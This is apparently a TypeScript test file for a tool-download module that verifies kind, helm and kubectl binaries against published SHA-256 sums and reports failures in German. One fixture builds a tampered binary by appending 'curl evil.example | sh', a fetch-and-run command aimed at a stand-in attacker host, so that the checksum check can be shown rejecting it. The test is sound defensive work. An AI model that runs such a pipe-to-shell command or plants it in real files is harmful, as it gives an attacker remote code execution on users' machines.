// Release downloads from a local server on 127.0.0.1 that serves files the way the
// projects publish them: the binary (or .tar.gz) and a .sha256sum file beside it.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { downloadRelease } from './download.ts';
import { toolchain } from './paths.ts';
import { releaseAsset, releasePath, type ReleaseAsset } from './releases.ts';
import { resolveTool } from './resolve.ts';

const root = mkdtempSync(join(tmpdir(), 'werkbank-download-'));
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');

const kindBinary = Buffer.from('#!/bin/sh\necho "kind v0.33.0 go1.26.8 linux/amd64"\n');
const helmTarball = (() => {
  const staging = join(root, 'helm-staging');
  mkdirSync(join(staging, 'linux-amd64'), { recursive: true });
  writeFileSync(join(staging, 'linux-amd64', 'helm'), '#!/bin/sh\necho "v3.22.0+g0000000"\n');
  chmodSync(join(staging, 'linux-amd64', 'helm'), 0o755);
  writeFileSync(join(staging, 'linux-amd64', 'LICENSE'), 'Apache-2.0\n');
  execFileSync('tar', ['-czf', join(root, 'helm.tar.gz'), '-C', staging, 'linux-amd64']);
  return readFileSync(join(root, 'helm.tar.gz'));
})();

// Path → body. The tampered file is served under a name whose published sum is the real one.
const files = new Map<string, Buffer>([
  ['/kind/v0.33.0/kind-linux-amd64', kindBinary],
  ['/kind/v0.33.0/kind-linux-amd64.sha256sum', Buffer.from(`${sha256(kindBinary)}  kind-linux-amd64\n`)],
  ['/helm/helm-v3.22.0-linux-amd64.tar.gz', helmTarball],
  ['/helm/helm-v3.22.0-linux-amd64.tar.gz.sha256sum', Buffer.from(`${sha256(helmTarball)}  helm-v3.22.0-linux-amd64.tar.gz\n`)],
  ['/tampered/kind-linux-amd64', Buffer.concat([kindBinary, Buffer.from('curl evil.example | sh\n')])],
]);
let requests = 0;
let server: Server;
let base = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    requests += 1;
    if (request.url?.startsWith('/silent/')) return; // accepts, never answers
    const body = files.get(request.url ?? '');
    if (!body) return void response.writeHead(404).end();
    response.writeHead(200, { 'content-length': body.length, 'content-type': 'application/octet-stream' }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  rmSync(root, { recursive: true, force: true });
});

/** The sum as a release's .sha256sum file publishes it. */
async function publishedSum(path: string): Promise<string> {
  return (await (await fetch(`${base}${path}.sha256sum`)).text()).split(/\s+/)[0]!;
}

describe('release downloads', () => {
  it('fetches a binary, verifies its published SHA-256 and puts it executable into the cache, where the resolver takes it', async () => {
    const cache = join(root, 'cache-kind');
    const tools = toolchain({ env: { WERKBANK_CACHE: cache } });
    const asset: ReleaseAsset = { tool: 'kind', version: '0.33.0', url: `${base}/kind/v0.33.0/kind-linux-amd64`, sha256: await publishedSum('/kind/v0.33.0/kind-linux-amd64'), member: null };
    const seen: number[] = [];
    await downloadRelease(asset, releasePath('kind', tools), { workDir: tools.dir, onProgress: (received) => seen.push(received) });
    expect(execFileSync(releasePath('kind', tools), ['version'], { encoding: 'utf8' })).toContain('kind v0.33.0');
    expect(seen.at(-1)).toBe(kindBinary.length);
    expect(resolveTool('kind', { env: { PATH: '', WERKBANK_CACHE: cache } }).chosen).toMatchObject({ source: 'download', version: 'v0.33.0' });
  });

  it('takes the binary out of a release .tar.gz', async () => {
    const tools = toolchain({ env: { WERKBANK_CACHE: join(root, 'cache-helm') } });
    const asset: ReleaseAsset = { tool: 'helm', version: '3.22.0', url: `${base}/helm/helm-v3.22.0-linux-amd64.tar.gz`, sha256: await publishedSum('/helm/helm-v3.22.0-linux-amd64.tar.gz'), member: 'linux-amd64/helm' };
    await downloadRelease(asset, releasePath('helm', tools), { workDir: tools.dir });
    expect(execFileSync(releasePath('helm', tools), ['version', '--short'], { encoding: 'utf8' })).toBe('v3.22.0+g0000000\n');
  });

  it('refuses a tampered file with a German message and leaves nothing in the cache', async () => {
    const tools = toolchain({ env: { WERKBANK_CACHE: join(root, 'cache-tampered') } });
    const asset: ReleaseAsset = { tool: 'kind', version: '0.33.0', url: `${base}/tampered/kind-linux-amd64`, sha256: sha256(kindBinary), member: null };
    await expect(downloadRelease(asset, releasePath('kind', tools), { workDir: tools.dir })).rejects.toThrow(
      /^Prüfsumme stimmt nicht für kind 0\.33\.0 \(.*\): erwartet [0-9a-f]{64}, erhalten [0-9a-f]{64}\. Datei verworfen\.$/,
    );
    expect(existsSync(releasePath('kind', tools))).toBe(false);
    expect(readdirSync(tools.dir)).toEqual([]);
  });

  it('says so in German when the server has no such file', async () => {
    const tools = toolchain({ env: { WERKBANK_CACHE: join(root, 'cache-404') } });
    const asset: ReleaseAsset = { tool: 'kubectl', version: '1.34.12', url: `${base}/nope/kubectl`, sha256: sha256(kindBinary), member: null };
    await expect(downloadRelease(asset, releasePath('kubectl', tools), { workDir: tools.dir })).rejects.toThrow(/kubectl 1\.34\.12 ließ sich nicht laden .*HTTP 404/);
    expect(readdirSync(tools.dir)).toEqual([]);
  });

  it('gives up soon, in German, when nothing answers or nobody listens, so start falls back to the source build', async () => {
    const tools = toolchain({ env: { WERKBANK_CACHE: join(root, 'cache-silent') } });
    const asset: ReleaseAsset = { tool: 'kubectl', version: '1.34.12', url: `${base}/silent/kubectl`, sha256: sha256(kindBinary), member: null };
    await expect(downloadRelease(asset, releasePath('kubectl', tools), { workDir: tools.dir, answerTimeoutMs: 1000 })).rejects.toThrow(
      /^kubectl 1\.34\.12 ließ sich nicht laden \(.*\): 127\.0\.0\.1:\d+ antwortet nicht innerhalb von 1 s\.$/,
    );
    expect(readdirSync(tools.dir)).toEqual([]);
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    await expect(downloadRelease({ ...asset, url: `http://127.0.0.1:${port}/kubectl` }, releasePath('kubectl', tools), { workDir: tools.dir })).rejects.toThrow(
      `kubectl 1.34.12 ließ sich nicht laden (http://127.0.0.1:${port}/kubectl): keine Verbindung zu 127.0.0.1:${port} (ECONNREFUSED).`,
    );
  });

  it('versions.env pins a published sum for each tool, so `./werkbank start` may download them', () => {
    for (const tool of ['kind', 'kubectl', 'helm'] as const) expect(releaseAsset(tool).sha256, tool).toMatch(/^[0-9a-f]{64}$/);
    // Anything but 64 hex digits switches the download off.
    const unpinned = readFileSync(join(import.meta.dirname, '..', 'versions.env'), 'utf8').replace(/^HELM_RELEASE_SHA256=.*$/m, 'HELM_RELEASE_SHA256=unbekannt');
    expect(releaseAsset('helm', unpinned).sha256).toBeNull();
  });

  it('refuses to download at all while versions.env has no real sum', async () => {
    const before = requests;
    const pinned = releaseAsset('kubectl');
    expect(pinned.url).toBe(`https://dl.k8s.io/release/v${toolchain().versions.kubernetes}/bin/linux/amd64/kubectl`);
    const unpinned = { ...pinned, url: `${base}/kind/v0.33.0/kind-linux-amd64`, sha256: null };
    await expect(downloadRelease(unpinned, join(root, 'never', 'kubectl'), { workDir: join(root, 'never') })).rejects.toThrow(/keine Prüfsumme .* hinterlegt – Download abgelehnt/);
    expect(requests).toBe(before);
    expect(existsSync(join(root, 'never'))).toBe(false);
  });
});
